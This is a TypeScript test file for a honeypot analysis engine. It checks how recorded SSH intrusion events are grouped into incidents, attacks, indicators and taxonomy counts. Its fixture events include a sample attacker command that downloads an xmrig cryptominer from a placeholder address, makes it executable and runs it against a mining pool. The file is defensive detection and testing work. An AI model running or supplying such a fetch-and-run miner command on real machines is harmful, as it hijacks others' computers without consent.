/** Incidents and attacks as the pages ask for them, over what the analysis found on the real engine. */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { AttacksQuery, IncidentsQuery } from '@apiary/model/api/incidents.ts';
import type { Inventory } from '@apiary/model/api/inventory.ts';
import { Analysis } from '../analysis/analysis.ts';
import { StateDatabase } from '../state/database.ts';
import { makeJudgement } from '../state/judgements.ts';
import { migrate } from '../store/schema.ts';
import { Store } from '../store/store.ts';
import { type Rendering, storedName } from '../store/template.ts';
import { findAttackOf, readAttackDetail } from './attack-detail.ts';
import { listAttacks } from './attacks.ts';
import { readIncidentCredentials } from './incident-credentials.ts';
import { readIncidentSessions } from './incident-sessions.ts';
import { findIncidentId, listIncidents, readIncident } from './incidents.ts';
import { readIndicators } from './indicators.ts';
import { readSourceContacts } from './source-contacts.ts';
import { countTaxonomy } from './taxonomy.ts';

const inventory: Inventory = {
  honeynets: [],
  honeypots: [],
  sensors: [],
  collectors: [],
  known_sources: [],
  events_kept_from_ms: null,
  records_kept_from_ms: null,
};
const day_ms = Date.UTC(2026, 2, 1);
const now_ms = day_ms + 86_400_000;
const query = { order: 'matters', offset: 0, limit: 50 } as const;
const hash = 'ab'.repeat(32);

/** Two sources with one payload, a scanner, and one over IPv6. */
const events = [
  {
    event_id: 1,
    s: 0,
    ip: '::ffff:203.0.113.1',
    action: 'authenticate',
    outcome: 'success',
    session: 'a',
    username: 'root',
    password: 'x',
  },
  {
    event_id: 2,
    s: 5,
    ip: '::ffff:203.0.113.1',
    action: 'input',
    session: 'a',
    command: 'wget http://198.51.100.9/xmrig; chmod +x xmrig; ./xmrig -o stratum+tcp://198.51.100.9:3333',
  },
  {
    event_id: 3,
    s: 9,
    ip: '::ffff:203.0.113.1',
    action: 'download',
    session: 'a',
    file_sha256: hash,
    url: 'http://198.51.100.9/xmrig',
  },
  {
    event_id: 4,
    s: 600,
    ip: '::ffff:203.0.113.2',
    action: 'authenticate',
    outcome: 'success',
    session: 'b',
    username: 'root',
    password: 'x',
    // The empty file is everybody's and no indicator.
    file_sha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
  },
  {
    event_id: 5,
    s: 605,
    ip: '::ffff:203.0.113.2',
    action: 'download',
    session: 'b',
    file_sha256: hash,
    url: 'http://198.51.100.9/xmrig',
  },
  { event_id: 6, s: 700, ip: '::ffff:203.0.113.77', action: 'probe' },
  { event_id: 7, s: 800, ip: '2001:db8:5::1', action: 'probe' },
  { event_id: 8, s: 801, ip: '2001:db8:5::2', action: 'probe' },
  { event_id: 9, s: 900, ip: '::', action: 'modify' },
];

for (const rendering of ['single', 'local_shards'] as Rendering[]) {
  describe(`incidents, ${rendering}`, () => {
    const directory = mkdtempSync(join(tmpdir(), 'apiary-incidents-'));
    let store: Store;
    let state: StateDatabase;
    before(async () => {
      store = new Store({ directory, rendering });
      state = new StateDatabase(':memory:');
      await store.whenUp();
      await migrate(store, []);
      await store.insertRows(
        storedName('event', rendering),
        events.map(({ s, ip, ...event }) => ({
          sensor_id: 1 + (event.event_id % 2),
          sensor_type: 'test',
          sensor_table: 'test_lines',
          segment_id: 1,
          place: event.event_id,
          detect_ts: new Date(day_ms + s * 1000).toISOString().slice(0, 19).replace('T', ' '),
          collect_ts: '2026-03-01 12:00:00',
          target_kind: 'computer',
          vantage: 'honeypot',
          service: 'ssh',
          attacker_ip: ip,
          ...event,
        })),
      );
      const scope = { pause_seconds: 3600, nets: [], honeypots: [], gateways: [], kept_from_us: 0 };
      const analysis = new Analysis({ store, state, scope: () => scope, log: () => undefined });
      await analysis.load();
      analysis.note(1n);
      await analysis.pass();
    });
    after(async () => {
      await store.close();
      rmSync(directory, { recursive: true });
    });

    test('are listed with what matters first', async () => {
      const { incidents, total } = await listIncidents({ store, state }, { ...query, last: '24h' }, now_ms);
      assert.equal(total, 3);
      const [first] = incidents;
      assert.equal(first?.attacks, 2);
      assert.equal(first?.sources, 2);
      assert.equal(first?.stage, 'brought a tool');
      assert.equal(first?.attacker, 'professional criminal');
      assert.deepEqual(first?.objectives, ['financial gain']);
      const far = await listIncidents({ store, state }, { ...query, last: '24h', stage: 'got in' }, now_ms);
      assert.equal(far.total, 1);
      const none = await listIncidents(
        { store, state },
        { ...query, last: '24h', family: 'no such' },
        now_ms,
      );
      assert.equal(none.total, 0);
    });

    test('one is told whole, with what links its attacks', async () => {
      const { incidents } = await listIncidents({ store, state }, { ...query, last: '24h' }, now_ms);
      const whole = await readIncident({ store, state }, incidents[0]!.number);
      assert.equal(whole.attacks.length, 2);
      const kinds = whole.attacks[1]!.links.map(({ kind }) => kind);
      assert(kinds.includes('file') || kinds.includes('url') || kinds.includes('host'), kinds.join());
      assert.match(whole.narrative[0]!, /2 sources made 2 attacks \(5 events\)/);
      assert(whole.evidence.some(({ rule }) => rule === 'incident.mining'));
      await assert.rejects(readIncident({ store, state }, 999), { code: 'not_found' });
    });

    test('its sessions are those with most events, and lead to what was done', async () => {
      const { incidents } = await listIncidents({ store, state }, { ...query, last: '24h' }, now_ms);
      const time = (s: number): string =>
        new Date(day_ms + s * 1000).toISOString().replace('.000Z', '.000000Z');
      // Sensors as the events were written: odd ids are of sensor 2, even ones of sensor 1.
      assert.deepEqual(await readIncidentSessions({ store, state }, incidents[0]!.number), {
        sessions: [
          { sensor_id: 2, session: 'a', events: 2, from: time(0), to: time(9) },
          { sensor_id: 1, session: 'a', events: 1, from: time(5), to: time(5) },
          { sensor_id: 1, session: 'b', events: 1, from: time(600), to: time(600) },
          { sensor_id: 2, session: 'b', events: 1, from: time(605), to: time(605) },
        ],
        is_cut: false,
      });
      // Probes have no session.
      const last = incidents.at(-1)!.number;
      assert.deepEqual(await readIncidentSessions({ store, state }, last), { sessions: [], is_cut: false });
    });

    test('its credentials are those that were tried, by how often', async () => {
      const { incidents } = await listIncidents({ store, state }, { ...query, last: '24h' }, now_ms);
      assert.deepEqual(await readIncidentCredentials({ store, state }, incidents[0]!.number), {
        credentials: [{ username: 'root', password: 'x', tries: 2, successes: 2 }],
        pairs: 1,
      });
      assert.deepEqual(await readIncidentCredentials({ store, state }, incidents.at(-1)!.number), {
        credentials: [],
        pairs: 0,
      });
    });

    test('a number that was given tells what became of its incident, one that was not says so', async () => {
      await assert.rejects(
        readIncident({ store, state }, 77_777),
        /there is no incident 77777: .* never given/,
      );
      // That of an event which is in no table any more.
      state.run('INSERT INTO incident_number (number, anchor, given_ms) VALUES (77777, ?, 0)', '77');
      await assert.rejects(readIncident({ store, state }, 77_777), /of incident 77777 no event is left/);
      state.run('DELETE FROM incident_number WHERE number = 77777');
    });

    test('a judgement counts before the rules, and can be taken back', async () => {
      const { incidents } = await listIncidents({ store, state }, { ...query, last: '24h' }, now_ms);
      const { number } = incidents[0]!;
      const anchor = await findIncidentId({ store, state }, number);
      makeJudgement(state, 'eva', anchor, 'attacker', 'hacker', now_ms);
      makeJudgement(state, 'eva', anchor, 'name', 'Miner of March', now_ms);
      const judged = await readIncident({ store, state }, number);
      assert.equal(judged.incident.attacker, 'hacker');
      assert.equal(judged.incident.name, 'Miner of March');
      assert.equal(judged.rules.attacker, 'professional criminal');
      makeJudgement(state, 'eva', anchor, 'objectives', 'status, challenge', now_ms);
      const total = async (more: object): Promise<number> =>
        (await listIncidents({ store, state }, { ...query, last: '24h', ...more }, now_ms)).total;
      // Lists and counts follow what was decided.
      assert.equal(await total({ attacker: 'hacker' }), 1);
      assert.equal(await total({ attacker: 'professional criminal' }), 0);
      assert.equal(await total({ attacker: 'unknown' }), 2);
      assert.equal(await total({ objective: 'challenge' }), 1);
      assert.equal(await total({ objective: 'financial gain' }), 0);
      const { counts } = await countTaxonomy({ store, state }, { from_ms: day_ms, to_ms: now_ms });
      assert.deepEqual(counts.attacker, { hacker: 1, unknown: 2 });
      assert.deepEqual(counts.objective, { status: 1, challenge: 1 });
      makeJudgement(state, 'eva', anchor, 'objectives', 'unknown', now_ms);
      assert.deepEqual((await readIncident({ store, state }, number)).incident.objectives, []);
      assert.equal(await total({ objective: 'financial gain' }), 0);
      makeJudgement(state, 'eva', anchor, 'objectives', '', now_ms);
      assert.equal(await total({ objective: 'financial gain' }), 1);
      const logged = state.all<{ subject: string; details: string }>(
        "SELECT subject, details FROM change_log WHERE verb = 'judge incident' ORDER BY change_id LIMIT 2",
      );
      assert.deepEqual(
        logged.map(({ subject, details }) => [subject, JSON.parse(details)]),
        [
          [`#${number}`, { field: 'attacker', value: 'hacker' }],
          [`#${number}`, { field: 'name' }],
        ],
      );
      makeJudgement(state, 'eva', anchor, 'attacker', '', now_ms);
      const back = await readIncident({ store, state }, number);
      assert.equal(back.incident.attacker, 'professional criminal');
      assert.deepEqual(
        back.judgements.map(({ actor, field, value }) => [actor, field, value]),
        [
          ['eva', 'attacker', 'hacker'],
          ['eva', 'name', 'Miner of March'],
          ['eva', 'objectives', 'status, challenge'],
          ['eva', 'objectives', 'unknown'],
          ['eva', 'objectives', ''],
          ['eva', 'attacker', ''],
        ],
      );
    });

    test('an attack has its events, of IPv6 all of its network', async () => {
      const of_six = await findAttackOf(store, '7');
      const six = await readAttackDetail({ store, state, inventory }, of_six!.attack_id);
      assert.equal(six.attack.source, '2001:db8:5::/64');
      assert.deepEqual(
        six.events.map(({ event_id }) => event_id),
        ['7', '8'],
      );
      const miner = await readAttackDetail(
        { store, state, inventory },
        (await findAttackOf(store, '2'))!.attack_id,
      );
      assert.deepEqual(
        miner.events.map(({ event_id }) => event_id),
        ['1', '2', '3'],
      );
      assert(miner.attack.techniques.includes('T1496'));
      assert(miner.evidence.every(({ weight }) => weight >= 0 && weight <= 1));
      assert.equal(await findAttackOf(store, '9'), null);
    });

    test('indicators and what a source did are found, whatever the rendering', async () => {
      const choice = {
        kinds: ['address', 'file', 'url', 'credential', 'key'] as const,
        stage: 'got in' as const,
        services: ['ssh'],
        families: [],
        days: 3,
        allow: [],
        sensors: false,
      };
      const { indicators, cut } = await readIndicators(
        store,
        { ...choice, kinds: [...choice.kinds] },
        now_ms,
      );
      assert.deepEqual(cut, []);
      assert.deepEqual(
        indicators.map(({ kind, value, times, sensors }) => [kind, value, times, sensors.length]),
        [
          ['address', '203.0.113.2', 1, 2],
          ['address', '203.0.113.1', 1, 2],
          ['file', hash, 2, 2],
          ['url', 'http://198.51.100.9/xmrig', 2, 2],
          ['credential', 'root:x', 2, 2],
        ],
      );
      const [from, to] = ['2026-03-01T00:00:05.000000Z', '2026-03-01T00:00:09.000000Z'];
      const contacts = await readSourceContacts(store, '203.0.113.1', from, to, 10);
      assert.deepEqual(
        contacts.map(({ detect_ts, action }) => [detect_ts, action]),
        [
          [from, 'input'],
          [to, 'download'],
        ],
      );
      assert.equal((await readSourceContacts(store, '203.0.113.1', from, to, 1)).length, 1);
    });

    test('the taxonomy counts every attack and incident once', async () => {
      const { counts, unattributed } = await countTaxonomy(
        { store, state },
        { from_ms: day_ms, to_ms: now_ms },
      );
      const sum = (about: string): number => Object.values(counts[about] ?? {}).reduce((a, b) => a + b, 0);
      assert.equal(sum('tool'), 4);
      assert.equal(sum('stage'), 4);
      assert.equal(sum('attacker'), 3);
      // What each cell counts is what the list of its link has.
      const period = { from: new Date(day_ms).toISOString(), to: new Date(now_ms).toISOString() };
      const cells = Object.entries(counts).flatMap(([about, of]) =>
        Object.entries(of).map(([name, count]) => ({ about, name, count })),
      );
      assert(new Set(cells.map(({ about }) => about)).size >= 7, JSON.stringify(counts));
      for (const { about, name, count } of cells) {
        const page = { offset: 0, limit: 50 };
        const { total } = ['attacker', 'objective'].includes(about)
          ? await listIncidents(
              { store, state },
              { ...page, ...period, order: 'matters', [about]: name },
              now_ms,
            )
          : await listAttacks({ store }, { ...page, ...period, [about]: name }, now_ms);
        assert.equal(total, count, `${about} ${name}`);
      }
      const all = await listAttacks({ store }, { ...period, offset: 0, limit: 50 }, now_ms);
      assert.deepEqual(
        all.attacks.map(({ source, incident_number }) => [source, incident_number]),
        [
          ['2001:db8:5::/64', 3],
          ['203.0.113.77', 2],
          ['203.0.113.2', 1],
          ['203.0.113.1', 1],
        ],
      );
      const second = await listAttacks({ store }, { ...period, offset: 1, limit: 1, service: 'ssh' }, now_ms);
      assert.deepEqual([second.total, second.attacks[0]?.source], [4, '203.0.113.77']);
      const totalOf = async (asked: Partial<AttacksQuery>): Promise<number> =>
        (await listAttacks({ store }, { ...period, offset: 0, limit: 50, ...asked }, now_ms)).total;
      assert.equal(await totalOf({ source: '203.0.113.77' }), 1);
      assert.equal(await totalOf({ source: '203.0.113.99' }), 0);
      assert.equal(await totalOf({ source: '2001:db8:5:0:ffff::9' }), 1, 'an address of the same /64');
      assert.equal(await totalOf({ source: '2001:db8:5:1::9' }), 0);
      // By its session, as its own events name it.
      const named = await store.query<{ session: string; attack_id: string }>(
        `SELECT session, any(attack_id) AS attack_id FROM (SELECT event_id, session FROM event WHERE session != '') AS e
         GLOBAL INNER JOIN (SELECT event_id, tupleElement(max(assignment), 2) AS attack_id FROM attack_event GROUP BY event_id) AS a
         ON e.event_id = a.event_id GROUP BY session ORDER BY session`,
      );
      assert.ok(named.length > 0);
      for (const { session, attack_id } of named) {
        const found = await listAttacks({ store }, { ...period, offset: 0, limit: 50, session }, now_ms);
        assert.ok(
          found.attacks.some((one) => one.attack_id === attack_id),
          session,
        );
        assert.ok(found.total < 4, 'not all there are');
      }
      assert.equal(await totalOf({ session: "no ' such" }), 0);
      assert.equal(unattributed, 1);
    });

    test('the order tells what grows, and what nobody had done before', async () => {
      const asked = {
        ...query,
        from: new Date(day_ms).toISOString(),
        to: new Date(day_ms + 1_000_000).toISOString(),
      };
      const listed = async (order: IncidentsQuery['order']) =>
        (await listIncidents({ store, state }, { ...asked, order }, now_ms)).incidents.map(
          ({ number, grown, firsts }) => [number, grown, firsts],
        );
      // The last quarter begins at 750 s; the attack of incident 3 at 800.
      assert.deepEqual(await listed('growing'), [
        [3, 1, null],
        [2, 0, null],
        [1, 0, null],
      ]);
      // The files of events 3 and 4, the address of the download, and what was typed; each once, though two attacks had them.
      assert.deepEqual(await listed('unlike'), [
        [1, null, 4],
        [3, null, 0],
        [2, null, 0],
      ]);
      // A later incident: one command is that of incident 1, the other is new.
      const at = (seconds: number): string =>
        new Date(day_ms + seconds * 1000).toISOString().slice(0, 19).replace('T', ' ');
      const times = { first_ts: at(950), last_ts: at(960) };
      const commands = ['echo never', events[1]!.command];
      await store.insertRows(storedName('attack', rendering), [
        {
          attack_id: 990,
          pass: 1000,
          source: '::ffff:203.0.113.9',
          sensor_id: 1,
          ...times,
          visit_ts: at(950),
          commands,
        },
      ]);
      await store.insertRows(storedName('incident_attack', rendering), [
        { attack_id: 990, incident_id: 990, pass: 1000 },
      ]);
      await store.insertRows(storedName('incident', rendering), [
        { incident_id: 990, number: 9, pass: 1000, ...times, attacks: 1, stage: 'probed' },
      ]);
      assert.deepEqual(await listed('unlike'), [
        [1, null, 4],
        [9, null, 1],
        [3, null, 0],
        [2, null, 0],
      ]);
    });
  });
}
